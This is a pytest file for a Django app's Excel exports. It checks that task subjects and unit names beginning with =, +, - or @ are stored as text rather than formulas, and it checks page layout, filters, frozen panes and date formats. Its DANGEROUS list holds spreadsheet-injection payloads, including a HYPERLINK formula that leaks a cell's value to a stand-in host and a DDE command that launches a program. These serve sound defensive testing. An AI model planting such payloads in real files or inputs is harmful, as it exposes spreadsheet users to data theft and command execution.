"""Every Excel export prints and is safe (units.xlsx, docs/architecture.md §6): a subject that
starts with = + - @ is text, never a formula; each sheet is landscape, one page wide, repeats its
header row, has filter buttons and frozen panes; dates are dates and numbers are right-aligned."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl
import pytest
from django.urls import reverse

from reports import periodic
from tasks.tests.factories import assign
from tasks.weekly import weekly_summary_run
from units.tests.support import Q3, file_report
from units.workcalendar import Week

DANGEROUS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
]


def _sheets(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets


def _check(content: bytes, expect_text: list[str]) -> None:
    values = []
    for sheet in _sheets(content):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
                if isinstance(cell.value, (int, float)) and not isinstance(cell.value, bool) and cell.row > 3:
                    assert cell.alignment.horizontal == "right", (sheet.title, cell.coordinate)
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$3:$3"
        width = sum(1 for c in sheet[3] if c.value is not None)
        assert sheet.auto_filter.ref.startswith("A3:") and sheet.auto_filter.ref.split(":")[1].startswith(
            openpyxl.utils.get_column_letter(width)
        )
        assert sheet.freeze_panes == "A4"
        assert not sheet["A1"].alignment.wrap_text  # the title runs on, never cut in column A
    for text in expect_text:
        assert text in values, text


@pytest.fixture
def dangerous_tasks(org, time_machine):
    time_machine.move_to("2026-11-02 08:00 +07:00")
    for subject in DANGEROUS:
        assign(org, org.commune_a, deadline=date(2026, 11, 16), subject=subject)
    time_machine.move_to("2026-11-25 10:00 +07:00")


def test_the_task_export_for_the_office_and_for_the_commune(client, org, dangerous_tasks):
    for user in (org.office_staff, org.chair_a):
        client.force_login(user)
        _check(client.get(reverse("tasks:assignment_export")).content, DANGEROUS)


def test_the_per_unit_export(client, org, dangerous_tasks):
    client.force_login(org.office_staff)
    content = client.get(reverse("tasks:unit_table"), {"format": "xlsx"}).content
    _check(content, [])


def test_the_monday_summary_export(client, org, dangerous_tasks):
    summary = weekly_summary_run(week=Week.parse("2026-W48"), deliver=False).result
    client.force_login(org.office_staff)
    content = client.get(reverse("tasks:summary_download", args=[summary.week, "xlsx"])).content
    _check(content, DANGEROUS)
    flat = _sheets(content)[1]
    assert isinstance(flat.cell(row=4, column=6).value, datetime)  # the deadline is a date


def test_the_rollup_export_two_tables_dates_and_percentages(client, org, template, time_machine):
    org.commune_a.name = "=1+1 Xã Tân Trào"
    org.commune_a.save()
    file_report(org, template, org.commune_a, org.chair_a, values={"hoi_nghi_quan_triet": 2}, time_machine=time_machine)
    time_machine.move_to("2026-09-25 08:00 +07:00")
    periodic.quarter_rollup_run(quarter=Q3)
    client.force_login(org.reviewer)
    content = client.get(reverse("reports:rollup_download", args=[Q3.key, "xlsx"])).content
    _check(content, ["=1+1 Xã Tân Trào"])
    units, indicators = _sheets(content)
    assert [c.value for c in units[3]][:4] == ["Đơn vị", "Loại", "Báo cáo quý", "Ngày gửi"]
    row = next(r for r in units.iter_rows(min_row=4) if r[0].value == "=1+1 Xã Tân Trào")
    assert isinstance(row[3].value, datetime) and row[3].number_format == "DD/MM/YYYY"
    assert [c.value for c in indicators[3]] == ["Điểm", "Chỉ tiêu", "Cơ quan, đơn vị", "UBND xã, TT", "Tổng"]


def test_the_register_export(client, org, dangerous_tasks):
    weekly_summary_run(week=Week.parse("2026-W48"), deliver=False)
    client.force_login(org.office_staff)
    _check(client.get(reverse("registers:register_export")).content, ["01/BC-VP"])
